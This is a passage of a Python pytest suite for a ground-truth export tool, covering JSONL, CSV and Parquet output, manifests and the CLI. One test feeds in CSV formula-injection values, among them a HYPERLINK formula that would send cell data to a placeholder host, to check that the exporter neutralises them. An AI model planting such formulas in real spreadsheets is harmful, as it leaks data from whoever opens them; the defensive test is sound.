"""Ground-truth export (docs/design.md §9.2): JSONL, CSV and Parquet round trips, as-of stability, manifest, CSV
flattening, odd classifications, the CLI (SQLite and PostgreSQL where a database is involved)."""

from __future__ import annotations

import csv
import dataclasses
import hashlib
import io
import json
import math
import random
from collections import Counter
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest
import sqlalchemy as sa
import store_fixtures as sf
from hypothesis import given
from hypothesis import strategies as st
from store_fixtures import pg_server_url_fixture, store_fixture  # noqa: F401  (fixtures)
from typer.testing import CliRunner

from arbiter.cli.main import app
from arbiter.contracts import ClassificationOutput, GroundTruthRecord, GroundTruthSource, SemanticChecks
from arbiter.contracts.version import CONTRACT_VERSION
from arbiter.export import (
    CSV_COLUMNS,
    ExportError,
    arrow_schema,
    export_ground_truth,
    parse_as_of,
    parse_formats,
    read_parquet,
)
from arbiter.export.arrow import records_from_table, to_table
from arbiter.export.flat import csv_rows, flatten_classification
from arbiter.export.writer import redact
from arbiter.record.ground_truth import auto_accept_record
from arbiter.store import Store
from arbiter.store.models import UTCDateTime, ground_truth
from arbiter.store.versions import insert_gt
from testing.ground_truth import seed_ground_truth, synthetic_classification

runner = CliRunner()
T1 = datetime(2026, 3, 2, 10, 0, tzinfo=UTC)
NOW = datetime(2026, 6, 1, tzinfo=UTC)
ALL = ("jsonl", "csv", "parquet")


def classification(doc_id: str, seed: int = 1) -> dict[str, Any]:
    return synthetic_classification(doc_id, random.Random(seed))


def add(
    store: Store,
    doc_id: str,
    version: int,
    at: datetime,
    *,
    source: GroundTruthSource = GroundTruthSource.PRIMARY_AGENT_AUTO_ACCEPT,
    truth: Any = None,
    primary: Any = "same",
    production: str | None = None,
    policy: str = "policy-1",
) -> GroundTruthRecord:
    """Insert one ground-truth version (any classification dict, even one off the contract's shape)."""
    truth = classification(doc_id, version) if truth is None else truth
    review = None
    if source != GroundTruthSource.PRIMARY_AGENT_AUTO_ACCEPT:
        review = {
            "reviewer": "ann",
            "agrees_with_primary": source == GroundTruthSource.SME_VALIDATED,
            "confidence": 0.8,
            "reason_codes": ["WRONG_TYPE", "BOUNDARY"],
            "started_at": at - timedelta(minutes=3),
            "submitted_at": at,
        }
    record = GroundTruthRecord.model_validate(
        {
            "gt_id": f"gt-{doc_id}-{version}",
            "doc_id": doc_id,
            "version": version,
            "supersedes": f"gt-{doc_id}-{version - 1}" if version > 1 else None,
            "ground_truth_source": source,
            "ground_truth_classification": truth,
            "primary_agent_classification": truth if primary == "same" else primary,
            "production_classification": {"doc_id": doc_id, "dominant_type": production}
            if production
            else None,
            "verification_summary": {
                "final_decision": "AUTO_ACCEPT",
                "rule": "no_issues",
                "attempts": 1,
                "issue_codes": [],
                "stop_reason": "accepted",
            },
            "sme_review": review,
            "policy_version": policy,
            "pdf_sha256": "b" * 64,
            "created_at": at,
            "run_id": "run-1",
        }
    )
    with store.write() as conn:
        insert_gt(conn, record)
    return record


def in_force(store: Store, as_of: datetime | None = None) -> dict[str, GroundTruthRecord]:
    """The oracle: every version from the database, the highest one per document created by as_of."""
    with store.read() as conn:
        payloads = conn.execute(sa.select(ground_truth.c.payload)).scalars().all()
    best: dict[str, GroundTruthRecord] = {}
    for p in payloads:
        r = GroundTruthRecord.model_validate(p)
        if (as_of is None or r.created_at <= as_of) and (
            r.doc_id not in best or r.version > best[r.doc_id].version
        ):
            best[r.doc_id] = r
    return best


def export(store: Store, out: Path, formats: tuple[str, ...] = ALL, **kw: Any) -> dict[str, Any]:
    return export_ground_truth(store, formats, out, now=NOW, **kw)


def read_csv(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


# Synthetic data ------------------------------------------------------------------------------------------
def test_seed_ground_truth_writes_valid_versioned_records(store: Store) -> None:
    """seed_ground_truth payloads are valid records with valid classifications, chained versions, all sources."""
    ids = seed_ground_truth(store, 300, revised=0.3)
    with store.read() as conn:
        rows = conn.execute(sa.select(ground_truth.c.payload)).scalars().all()
    records = [GroundTruthRecord.model_validate(p) for p in rows]
    by_id = {r.gt_id: r for r in records}
    assert {r.doc_id for r in records} == set(ids)
    assert len(records) > len(ids)
    assert set(Counter(r.ground_truth_source for r in records)) == set(GroundTruthSource)
    for r in records:
        ClassificationOutput.model_validate(r.ground_truth_classification)
        ClassificationOutput.model_validate(r.primary_agent_classification)
        assert (r.sme_review is not None) == (r.ground_truth_source != "PRIMARY_AGENT_AUTO_ACCEPT")
        if r.ground_truth_source == GroundTruthSource.SME_CORRECTED:
            assert r.ground_truth_classification != r.primary_agent_classification
        if r.version > 1:
            before = by_id[r.supersedes or ""]
            assert (before.doc_id, before.version) == (r.doc_id, r.version - 1)
            assert before.created_at < r.created_at


def test_seed_ground_truth_is_deterministic(tmp_path: Path) -> None:
    """The same seed gives the same rows."""
    payloads = []
    for name in ("a", "b"):
        s = Store(f"sqlite:///{tmp_path / name}.db")
        s.migrate()
        seed_ground_truth(s, 50, seed=7)
        with s.read() as conn:
            payloads.append(conn.execute(sa.select(ground_truth.c.payload).order_by("gt_id")).scalars().all())
        s.dispose()
    assert payloads[0] == payloads[1]


# Round trips ---------------------------------------------------------------------------------------------
def test_every_format_round_trips_the_versions_in_force(store: Store, tmp_path: Path) -> None:
    """Parquet read back with pyarrow, JSONL and CSV hold exactly the database's newest version per document."""
    seed_ground_truth(store, 120, revised=0.4)
    oracle = in_force(store)
    manifest = export(store, tmp_path, batch=50)  # several batches
    parquet = [
        GroundTruthRecord.model_validate(r) for r in list(read_parquet(tmp_path / "ground_truth.parquet"))
    ]
    assert {r.doc_id: r for r in parquet} == oracle
    assert len(parquet) == len(oracle)
    lines = (tmp_path / "ground_truth.jsonl").read_text().splitlines()
    assert {r.doc_id: r for r in map(GroundTruthRecord.model_validate_json, lines)} == oracle
    rows = read_csv(tmp_path / "ground_truth.csv")
    assert list(rows[0]) == list(CSV_COLUMNS)
    assert {(r["doc_id"], int(r["version"]), r["gt_id"], r["source"]) for r in rows} == {
        (r.doc_id, r.version, r.gt_id, r.ground_truth_source.value) for r in oracle.values()
    }
    assert (
        [r["doc_id"] for r in rows] == [r.doc_id for r in parquet] == [json.loads(x)["doc_id"] for x in lines]
    )
    assert manifest["records"] == len(oracle)
    assert manifest["json_fallbacks"] == dict.fromkeys(
        ("ground_truth_classification", "primary_agent_classification", "sme_review"), 0
    )


def test_parquet_columns_are_typed_and_nested(store: Store, tmp_path: Path) -> None:
    """The Parquet file carries the explicit schema: nested segments, types, evidence, mixture and review."""
    add(store, "d1", 1, T1, source=GroundTruthSource.SME_CORRECTED)
    export(store, tmp_path, ("parquet",))
    table = pq.read_table(tmp_path / "ground_truth.parquet")
    assert table.schema.equals(arrow_schema(), check_metadata=False)
    gt = table.column("ground_truth_classification").to_pylist()[0]
    evidence = [e for seg in gt["segments"] for t in seg["types"] for e in t["evidence"]]
    assert evidence
    assert all(isinstance(e["page"], int) for e in evidence)
    assert table.column("sme_review").to_pylist()[0]["reason_codes"] == ["WRONG_TYPE", "BOUNDARY"]
    assert table.column("created_at").type.tz == "UTC"
    assert table.column("verification_summary").to_pylist()[0]["final_decision"] == "AUTO_ACCEPT"
    assert table.schema.metadata[b"arbiter.contract_version"] == CONTRACT_VERSION.encode()


ODD: list[tuple[str, Any]] = [
    ("missing-required", {"dominant_type": "LAB_REPORT", "segments": [], "document_mixture": []}),
    ("unknown-key", {**classification("x"), "extra": {"nested": [1, 2]}}),
    ("wrong-type", {**classification("x"), "number_of_segments": "two"}),
    ("float-page", {**classification("x"), "segments": [{"start_page": 1.5, "end_page": 2}]}),
    ("null-segment", {**classification("x"), "segments": [None]}),
    ("huge-int", {**classification("x"), "number_of_segments": 2**70}),
    ("empty", {}),
]


@pytest.mark.parametrize(("name", "odd"), ODD, ids=[n for n, _ in ODD])
def test_classifications_off_the_contract_shape_are_kept_verbatim_as_json(
    store: Store, tmp_path: Path, name: str, odd: Any
) -> None:
    """A classification that does not fit the struct goes to <field>_json unchanged; every format keeps it."""
    add(store, "odd", 1, T1, truth=odd, primary=None)
    add(store, "fine", 1, T1)
    manifest = export(store, tmp_path)
    assert manifest["json_fallbacks"]["ground_truth_classification"] == 1
    table = pq.read_table(tmp_path / "ground_truth.parquet").to_pylist()
    row = next(r for r in table if r["doc_id"] == "odd")
    assert row["ground_truth_classification"] is None
    assert json.loads(row["ground_truth_classification_json"]) == odd
    back = {r["doc_id"]: r for r in list(read_parquet(tmp_path / "ground_truth.parquet"))}
    assert back["odd"]["ground_truth_classification"] == odd
    assert GroundTruthRecord.model_validate(back["fine"]) == in_force(store)["fine"]
    jsonl = [json.loads(x) for x in (tmp_path / "ground_truth.jsonl").read_text().splitlines()]
    assert next(r for r in jsonl if r["doc_id"] == "odd")["ground_truth_classification"] == odd
    assert {r["doc_id"] for r in read_csv(tmp_path / "ground_truth.csv")} == {"odd", "fine"}


def test_a_payload_stored_across_lines_exports_as_one_line(store: Store, tmp_path: Path) -> None:
    """JSON stored pretty-printed (newlines between tokens) still gives one JSONL line and a Parquet row."""
    record = add(store, "d0", 1, T1)
    pretty = record.model_copy(update={"gt_id": "gt-pretty", "doc_id": "d1"}).model_dump(mode="json")
    value = "CAST(:p AS jsonb)" if store.dialect == "postgresql" else ":p"
    insert = sa.text(
        f"INSERT INTO ground_truth (gt_id, doc_id, version, source, created_at, payload) "
        f"VALUES ('gt-pretty', 'd1', 1, 'PRIMARY_AGENT_AUTO_ACCEPT', :at, {value})"
    ).bindparams(sa.bindparam("at", type_=UTCDateTime()))
    with store.write() as conn:  # the text as given, not re-serialised by the JSON column type
        conn.execute(insert, {"at": T1, "p": json.dumps(pretty, indent=2)})
    export(store, tmp_path, ("jsonl", "parquet"))
    lines = (tmp_path / "ground_truth.jsonl").read_text().splitlines()
    assert [GroundTruthRecord.model_validate_json(x).doc_id for x in lines] == ["d0", "d1"]
    assert [r["gt_id"] for r in read_parquet(tmp_path / "ground_truth.parquet")] == [
        record.gt_id,
        "gt-pretty",
    ]


def test_absent_optional_fields_read_back_as_null(store: Store, tmp_path: Path) -> None:
    """A classification lacking optional keys (anchor) fits the struct; it reads back with them as null."""
    truth = classification("d1")
    for seg in truth["segments"]:
        for t in seg["types"]:
            for e in t["evidence"]:
                del e["anchor"]
    add(store, "d1", 1, T1, truth=truth)
    manifest = export(store, tmp_path, ("parquet",))
    assert manifest["json_fallbacks"]["ground_truth_classification"] == 0
    (record,) = read_parquet(tmp_path / "ground_truth.parquet")
    back = record["ground_truth_classification"]
    assert ClassificationOutput.model_validate(back) == ClassificationOutput.model_validate(truth)
    assert all(e["anchor"] is None for s in back["segments"] for t in s["types"] for e in t["evidence"])


# As of --------------------------------------------------------------------------------------------------
def test_as_of_picks_the_version_in_force_at_that_time(store: Store, tmp_path: Path) -> None:
    """Per document, the highest version created at or before the time; documents not yet there are absent."""
    add(store, "a", 1, T1)
    add(store, "a", 2, T1 + timedelta(days=2), source=GroundTruthSource.SME_CORRECTED)
    add(store, "b", 1, T1 + timedelta(days=1))
    cases = [
        (T1 - timedelta(seconds=1), {}),
        (T1, {"a": 1}),
        (T1 + timedelta(days=1), {"a": 1, "b": 1}),
        (T1 + timedelta(days=2), {"a": 2, "b": 1}),
        (None, {"a": 2, "b": 1}),
    ]
    for i, (as_of, expected) in enumerate(cases):
        out = tmp_path / str(i)
        manifest = export(store, out, ("csv",), as_of=as_of)
        assert {r["doc_id"]: int(r["version"]) for r in read_csv(out / "ground_truth.csv")} == expected
        assert manifest["as_of"] == (as_of.isoformat().replace("+00:00", "Z") if as_of else None)
        assert manifest["records"] == len(expected)


def test_as_of_export_is_byte_identical_after_new_versions_are_added(store: Store, tmp_path: Path) -> None:
    """Exporting as of T, adding versions and documents after T, and exporting as of T again gives the same bytes."""
    seed_ground_truth(store, 80, revised=0.3, start=datetime(2026, 1, 1, tzinfo=UTC))
    as_of = datetime(2026, 2, 1, tzinfo=UTC)
    first = export(store, tmp_path / "first", as_of=as_of, batch=30)
    docs = sorted(in_force(store, as_of))
    newest = in_force(store)
    for doc in docs[:10]:
        at = max(newest[doc].created_at, as_of) + timedelta(seconds=1)
        add(store, doc, newest[doc].version + 1, at, source=GroundTruthSource.SME_CORRECTED)
    add(store, "new-doc", 1, as_of + timedelta(days=1))
    second = export(store, tmp_path / "second", as_of=as_of, batch=30)
    latest = export(store, tmp_path / "latest")
    for name in ("ground_truth.jsonl", "ground_truth.csv", "ground_truth.parquet"):
        assert (tmp_path / "first" / name).read_bytes() == (tmp_path / "second" / name).read_bytes()
        assert sha256(tmp_path / "first" / name) != sha256(tmp_path / "latest" / name)
    assert first["files"] == second["files"]
    assert latest["records"] == len(in_force(store)) == 81


# Manifest -----------------------------------------------------------------------------------------------
def test_manifest_describes_the_files_and_the_records(store: Store, tmp_path: Path) -> None:
    """Hashes, sizes and row counts match the files; counts by source and policy match the database."""
    seed_ground_truth(store, 60, revised=0.3)
    add(store, "p2", 1, T1, policy="policy-2")
    manifest = export(store, tmp_path)
    assert json.loads((tmp_path / "manifest.json").read_text()) == manifest
    oracle = in_force(store).values()
    for entry in manifest["files"]:
        path = tmp_path / entry["name"]
        assert entry["sha256"] == sha256(path)
        assert entry["bytes"] == path.stat().st_size
        assert entry["rows"] == len(oracle)
    assert [f["format"] for f in manifest["files"]] == list(ALL) == manifest["formats"]
    assert manifest["counts_by_source"] == {
        s.value: sum(r.ground_truth_source == s for r in oracle) for s in GroundTruthSource
    }
    assert manifest["policy_versions"] == dict(sorted(Counter(r.policy_version for r in oracle).items()))
    assert manifest["contract"]["name"] == "GroundTruthRecord"
    assert manifest["contract"]["version"] == CONTRACT_VERSION
    assert len(manifest["contract"]["json_schema_sha256"]) == 64
    assert manifest["newest_version_created_at"] == max(r.created_at for r in oracle).isoformat().replace(
        "+00:00", "Z"
    )
    assert manifest["generated_at"] == "2026-06-01T00:00:00Z"
    assert not list(tmp_path.glob(".*.tmp"))


def test_database_password_is_redacted() -> None:
    """The manifest names the database without its password."""
    shown = redact("postgresql+psycopg://arbiter:hunter2@db.example:5432/arbiter")
    assert "hunter2" not in shown
    assert shown == "postgresql+psycopg://arbiter:***@db.example:5432/arbiter"


def test_empty_database_gives_empty_files_and_a_manifest(store: Store, tmp_path: Path) -> None:
    """No ground truth: an empty JSONL, a header-only CSV, a schema-only Parquet, zero counts."""
    manifest = export(store, tmp_path)
    assert (tmp_path / "ground_truth.jsonl").read_bytes() == b""
    assert (tmp_path / "ground_truth.csv").read_text().splitlines() == [",".join(CSV_COLUMNS)]
    table = pq.read_table(tmp_path / "ground_truth.parquet")
    assert table.num_rows == 0
    assert table.schema.equals(arrow_schema(), check_metadata=False)
    assert manifest["records"] == 0
    assert set(manifest["counts_by_source"].values()) == {0}
    assert manifest["newest_version_created_at"] is None


def test_a_failed_export_leaves_no_manifest_and_no_partial_files(
    store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A crash mid-export removes the temporary files and the old manifest; complete files of before stay."""
    out = tmp_path / "export"
    add(store, "d1", 1, T1)
    export(store, out)
    before = (out / "ground_truth.csv").read_bytes()

    def boom(*_: Any) -> Any:
        raise RuntimeError("disk on fire")

    monkeypatch.setattr("arbiter.export.output.csv_rows", boom)
    with pytest.raises(RuntimeError, match="disk on fire"):
        export(store, out)
    assert not (out / "manifest.json").exists()
    assert sorted(p.name for p in out.iterdir()) == [
        "ground_truth.csv",
        "ground_truth.jsonl",
        "ground_truth.parquet",
    ]
    assert (out / "ground_truth.csv").read_bytes() == before


def test_exporting_again_into_a_directory_replaces_the_earlier_export(store: Store, tmp_path: Path) -> None:
    """A second export into the same directory leaves only its own files beside its manifest."""
    out = tmp_path / "export"
    add(store, "d1", 1, T1)
    export(store, out, ("csv", "parquet"))
    manifest = export(store, out, ("jsonl",))
    assert sorted(p.name for p in out.iterdir()) == ["ground_truth.jsonl", "manifest.json"]
    assert [f["name"] for f in manifest["files"]] == ["ground_truth.jsonl"]


def test_a_foreign_manifest_is_not_overwritten(store: Store, tmp_path: Path) -> None:
    """A directory whose manifest.json is not an Arbiter export's is refused, and the file is left alone."""
    out = tmp_path / "export"
    out.mkdir()
    (out / "manifest.json").write_text('{"kind": "someone else"}')
    with pytest.raises(ExportError, match="not an Arbiter export manifest"):
        export(store, out)
    assert (out / "manifest.json").read_text() == '{"kind": "someone else"}'


def test_in_memory_sqlite_exports(tmp_path: Path) -> None:
    """An in-memory SQLite store (one connection per thread) is read on the calling thread."""
    store = Store("sqlite:///:memory:")
    store.migrate()
    add(store, "d1", 1, T1)
    try:
        assert export(store, tmp_path, ("jsonl",))["records"] == 1
    finally:
        store.dispose()


# CSV flattening -----------------------------------------------------------------------------------------
def seg(start: Any, end: Any, dominant: Any) -> dict[str, Any]:
    return {
        "segment_index": 1,
        "start_page": start,
        "end_page": end,
        "segment_page_count": 1,
        "dominant_type": dominant,
        "types": [],
    }


def cls(segments: Any, mixture: Any, dominant: Any = "LAB_REPORT", **extra: Any) -> dict[str, Any]:
    return {
        "doc_id": "d",
        "producer": {"name": "p"},
        "number_of_segments": len(segments) if isinstance(segments, list) else 0,
        "dominant_type": dominant,
        "segments": segments,
        "document_mixture": mixture,
        **extra,
    }


def mix(**shares: Any) -> list[dict[str, Any]]:
    return [{"document_type": k, "share": v} for k, v in shares.items()]


FLAT = [
    (
        "two-segments",
        cls(
            [seg(1, 3, "LAB_REPORT"), seg(4, 5, "CLINICAL_NOTE")],
            mix(LAB_REPORT=0.6, CLINICAL_NOTE=0.4, GENOMIC_REPORT=0.0),
        ),
        ("LAB_REPORT", "2", "1-3:LAB_REPORT|4-5:CLINICAL_NOTE", "LAB_REPORT=0.6|CLINICAL_NOTE=0.4"),
    ),
    (
        "rounded-share",
        cls([seg(1, 1, "LAB_REPORT")], mix(LAB_REPORT=2 / 3, CLINICAL_NOTE=1 / 3)),
        ("LAB_REPORT", "1", "1-1:LAB_REPORT", "LAB_REPORT=0.6667|CLINICAL_NOTE=0.3333"),
    ),
    (
        "whole-share",
        cls([seg(2, 9, "LAB_REPORT")], mix(LAB_REPORT=1)),
        ("LAB_REPORT", "1", "2-9:LAB_REPORT", "LAB_REPORT=1"),
    ),
    (
        "missing-page",
        {"dominant_type": "LAB_REPORT", "segments": [{"start_page": 1, "dominant_type": "LAB_REPORT"}]},
        ("LAB_REPORT", "1", "1-?:LAB_REPORT", ""),
    ),
    (
        "wrong-types",
        {
            "dominant_type": 7,
            "segments": [{"start_page": "1", "end_page": 2.0, "dominant_type": None}, "junk"],
        },
        ("", "2", "?-?:?", ""),
    ),
    (
        "declared-count-wins",
        {**cls([seg(1, 2, "X")], []), "number_of_segments": 3},
        ("LAB_REPORT", "3", "1-2:X", ""),
    ),
    (
        "segments-not-a-list",
        {"dominant_type": "X", "segments": "1-2", "document_mixture": {"X": 1}},
        ("X", "", "", ""),
    ),
    (
        "mixture-junk",
        cls([], [{"document_type": "A", "share": "0.5"}, {"share": 0.5}, 3]),
        ("LAB_REPORT", "0", "", "?=0.5"),
    ),
]


@pytest.mark.parametrize(("name", "truth", "expected"), FLAT, ids=[n for n, _, _ in FLAT])
def test_csv_flattens_classifications(
    store: Store, tmp_path: Path, name: str, truth: Any, expected: tuple[str, ...]
) -> None:
    """dominant_type, number_of_segments, segments and mixture strings, for struct and JSON-kept classifications."""
    add(store, "d", 1, T1, truth=truth, primary=None)
    export(store, tmp_path, ("csv",))
    (row,) = read_csv(tmp_path / "ground_truth.csv")
    assert (
        row["dominant_type"],
        row["number_of_segments"],
        row["segments"],
        row["document_mixture"],
    ) == expected


AGREE = [
    ("LAB_REPORT", "LAB_REPORT", "LAB_REPORT", ("true", "true")),
    ("LAB_REPORT", "CLINICAL_NOTE", "LAB_REPORT", ("false", "true")),
    ("LAB_REPORT", "LAB_REPORT", None, ("true", "")),
    ("LAB_REPORT", None, "GENOMIC_REPORT", ("", "false")),
]


@pytest.mark.parametrize(("truth", "primary", "production", "expected"), AGREE)
def test_csv_agreement_columns(
    store: Store,
    tmp_path: Path,
    truth: str,
    primary: str | None,
    production: str | None,
    expected: tuple[str, str],
) -> None:
    """primary_agrees / production_agrees compare each dominant type with the ground truth's; blank when absent."""
    gt = cls([seg(1, 2, truth)], mix(**{truth: 1.0}), dominant=truth)
    prim = cls([seg(1, 2, primary)], mix(**{primary: 1.0}), dominant=primary) if primary else None
    add(
        store,
        "d",
        1,
        T1,
        truth=gt,
        primary=prim,
        production=production,
        source=GroundTruthSource.SME_CORRECTED,
    )
    export(store, tmp_path, ("csv",))
    (row,) = read_csv(tmp_path / "ground_truth.csv")
    assert (row["primary_agrees"], row["production_agrees"]) == expected
    assert (row["primary_dominant_type"], row["production_dominant_type"]) == (
        primary or "",
        production or "",
    )
    assert (row["reviewer"], row["review_agrees_with_primary"], row["review_confidence"]) == (
        "ann",
        "false",
        "0.8",
    )
    assert row["reason_codes"] == "WRONG_TYPE|BOUNDARY"
    assert row["created_at"] == "2026-03-02T10:00:00Z"
    assert row["final_decision"] == "AUTO_ACCEPT"


FORMULAS = ['=HYPERLINK("http://x/?a="&A1,"open")', "+1+2", "-2+3", "@SUM(1+1)", "\tcmd", "\rcmd"]


def test_csv_cells_never_start_a_formula(store: Store, tmp_path: Path) -> None:
    """Issue 14.4: a document named `=HYPERLINK(...)`, `+1+2`, `@SUM(1+1)` (and types, production answers
    of that shape) is written with a leading `'` in every text column; the JSONL keeps the value as stored."""
    for i, name in enumerate(FORMULAS):
        hostile = cls([seg(1, 2, name)], mix(**{name: 1.0}), dominant=name)
        add(store, name, 1, T1 + timedelta(minutes=i), truth=hostile, primary=hostile, production=name)
    export(store, tmp_path, ("csv", "jsonl"))
    rows = read_csv(tmp_path / "ground_truth.csv")
    assert sorted(r["doc_id"] for r in rows) == sorted("'" + n for n in FORMULAS)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
        name = row["doc_id"][1:]
        assert row["dominant_type"] == row["primary_dominant_type"] == row["production_dominant_type"]
        assert row["dominant_type"] == "'" + name
        assert row["document_mixture"] == f"'{name}=1"
        assert row["gt_id"] == f"gt-{name}-1"  # not at the start: left alone
    jsonl = [json.loads(line) for line in (tmp_path / "ground_truth.jsonl").read_text().splitlines()]
    assert sorted(r["doc_id"] for r in jsonl) == sorted(FORMULAS)


@pytest.mark.parametrize("checks", [SemanticChecks.RULES_ONLY, SemanticChecks.RULES_AND_MODEL])
def test_semantic_checks_column_for_accepts_and_reviewed_escalations(
    store: Store, tmp_path: Path, checks: SemanticChecks
) -> None:
    """JSONL, CSV and Parquet carry semantic_checks of the decision that produced the ground truth: an
    auto-accept's, and an escalation's once the SME has reviewed it; a record from before it was kept is empty."""
    acc = sf.accepted("acc")
    acc_outcome = acc.outcome.model_copy(update={"semantic_checks": checks})
    gt = auto_accept_record(
        acc_outcome, None, primary=None, production=None, pdf_sha256="a" * 64, run_id="run-1"
    )
    store.records.record(dataclasses.replace(acc, outcome=acc_outcome, ground_truth=gt))
    esc = sf.escalated("esc")
    assert esc.packet is not None
    esc_outcome = esc.outcome.model_copy(update={"semantic_checks": checks})
    packet = esc.packet.model_copy(update={"semantic_checks": checks})
    store.records.record(dataclasses.replace(esc, outcome=esc_outcome, packet=packet))
    assert store.queue.claim(packet.packet_id, "alice") is not None
    store.reviews.submit(
        packet.packet_id, "alice", sf.review("alice"), sf.CLASSIFICATION, idempotency_key="k"
    )
    add(store, "old", 1, T1)  # written before semantic_checks existed
    export(store, tmp_path)
    expected = {"acc": checks.value, "esc": checks.value, "old": None}
    lines = (tmp_path / "ground_truth.jsonl").read_text().splitlines()
    assert {r["doc_id"]: r.get("semantic_checks") for r in map(json.loads, lines)} == expected
    table = pq.read_table(tmp_path / "ground_truth.parquet")
    parquet = dict(
        zip(table.column("doc_id").to_pylist(), table.column("semantic_checks").to_pylist(), strict=True)
    )
    assert parquet == expected
    rows = read_csv(tmp_path / "ground_truth.csv")
    assert {r["doc_id"]: r["semantic_checks"] for r in rows} == {k: v or "" for k, v in expected.items()}
    assert {r["doc_id"]: r["source"] for r in rows}["esc"] == GroundTruthSource.SME_VALIDATED


# Parsing and the CLI ------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("2026-01-05", datetime(2026, 1, 5, tzinfo=UTC)),
        ("2026-01-05T09:30", datetime(2026, 1, 5, 9, 30, tzinfo=UTC)),
        ("2026-01-05 09:30:15", datetime(2026, 1, 5, 9, 30, 15, tzinfo=UTC)),
        ("2026-01-05T09:30:00Z", datetime(2026, 1, 5, 9, 30, tzinfo=UTC)),
        ("2026-01-05T09:30:00+02:00", datetime(2026, 1, 5, 7, 30, tzinfo=UTC)),
        (" 2026-01-05T09:30:00.250z ", datetime(2026, 1, 5, 9, 30, 0, 250_000, tzinfo=UTC)),
    ],
)
def test_parse_as_of_reads_iso_8601_as_utc(text: str, expected: datetime) -> None:
    """Dates mean 00:00 UTC, times without a zone are UTC, offsets are converted."""
    assert parse_as_of(text) == expected


@pytest.mark.parametrize("text", ["yesterday", "", "2026-13-01", "05/01/2026", "2026-01-05T25:00"])
def test_parse_as_of_refuses_other_text_plainly(text: str) -> None:
    """Anything else is an ExportError quoting the input and an accepted example."""
    with pytest.raises(ExportError, match="ISO 8601 date or time such as 2026-01-05"):
        parse_as_of(text)


def test_future_as_of_is_refused(store: Store, tmp_path: Path) -> None:
    """An export as of a time still to come could change, so it is refused."""
    with pytest.raises(ExportError, match="in the future"):
        export(store, tmp_path, as_of=NOW + timedelta(seconds=1))


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("parquet", ("parquet",)),
        ("CSV, jsonl", ("jsonl", "csv")),
        ("all", ALL),
        ("parquet,parquet", ("parquet",)),
    ],
)
def test_parse_formats(text: str, expected: tuple[str, ...]) -> None:
    """--format takes one name, several comma-separated, or all; order is fixed."""
    assert parse_formats(text) == expected


def seeded_out(tmp_path: Path) -> Path:
    out = tmp_path / "out"
    out.mkdir()
    store = Store(f"sqlite:///{out / 'arbiter.db'}")
    store.migrate()
    add(store, "a", 1, T1)
    add(store, "a", 2, T1 + timedelta(days=3), source=GroundTruthSource.SME_VALIDATED)
    add(store, "b", 1, T1 + timedelta(days=1))
    store.dispose()
    return out


def said(result: Any) -> str:
    return " ".join(result.output.split())


def test_cli_export_writes_the_default_directory(tmp_path: Path) -> None:
    """`arbiter export --format parquet,csv` writes OUT/exports/latest-<time>/ with both files and a manifest."""
    out = seeded_out(tmp_path)
    result = runner.invoke(app, ["export", "--format", "parquet,csv", "--out", str(out)])
    assert result.exit_code == 0, result.output
    (target,) = (out / "exports").iterdir()
    assert target.name.startswith("latest-")
    manifest = json.loads((target / "manifest.json").read_text())
    assert [f["name"] for f in manifest["files"]] == ["ground_truth.csv", "ground_truth.parquet"]
    assert "Exported 2 documents (newest versions)" in said(result)
    assert {r["doc_id"]: r["version"] for r in read_csv(target / "ground_truth.csv")} == {"a": "2", "b": "1"}


def test_cli_export_as_of_to_a_chosen_directory_with_mirrors(tmp_path: Path) -> None:
    """--as-of and --to choose the versions and the place; --mirrors in the same call still regenerates mirrors."""
    out = seeded_out(tmp_path)
    target = tmp_path / "jan"
    args = ["export", "--format", "jsonl", "--as-of", "2026-03-03T12:00", "--to", str(target), "--mirrors"]
    result = runner.invoke(app, [*args, "--out", str(out)])
    assert result.exit_code == 0, result.output
    lines = [json.loads(x) for x in (target / "ground_truth.jsonl").read_text().splitlines()]
    assert [(r["doc_id"], r["version"]) for r in lines] == [("a", 1), ("b", 1)]
    assert json.loads((target / "manifest.json").read_text())["as_of"] == "2026-03-03T12:00:00Z"
    assert (out / "ground_truth" / "gt_a.json").exists()
    assert "Regenerated" in said(result)


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (
            ["export", "--format", "csv", "--as-of", "last tuesday"],
            "--as-of must be an ISO 8601 date or time",
        ),
        (["export", "--format", "xml"], "--format must be jsonl, csv or parquet"),
        (["export", "--as-of", "2026-01-01"], "--as-of and --to go with --format"),
        (["export"], "Say what to export: --format"),
        (["export", "--format", "csv", "--as-of", "2999-01-01"], "is in the future"),
    ],
)
def test_cli_export_usage_errors(tmp_path: Path, args: list[str], message: str) -> None:
    """Mistakes are one plain error line with exit 2, and a bad --as-of or --format touches no database."""
    out = tmp_path / "out"
    result = runner.invoke(app, [*args, "--out", str(out)])
    assert result.exit_code == 2, result.output
    assert message in said(result)
    if "future" not in message:
        assert not (out / "arbiter.db").exists()


# No classification crashes the writers ------------------------------------------------------------------
_scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=True, allow_infinity=True),
    st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=8),
)
_json = st.recursive(
    _scalars,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=6), inner, max_size=3),
    max_leaves=12,
)


def _maybe(good: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    return st.one_of(good, good, good, _json)


_evidence = st.fixed_dictionaries(
    {"page": _maybe(st.integers(1, 50)), "snippet": _maybe(st.text(max_size=10))},
    optional={"anchor": _maybe(st.none() | st.text(max_size=5))},
)
_type = st.fixed_dictionaries(
    {
        "document_type": _maybe(st.sampled_from(["LAB_REPORT", "CLINICAL_NOTE"])),
        "presence_level": _maybe(st.just("PRIMARY")),
        "share": _maybe(st.floats(0, 1)),
        "confidence": _maybe(st.floats(0, 1)),
    },
    optional={"evidence": _maybe(st.lists(_evidence, max_size=2))},
)
_segment = st.fixed_dictionaries(
    {
        "segment_index": _maybe(st.integers(1, 5)),
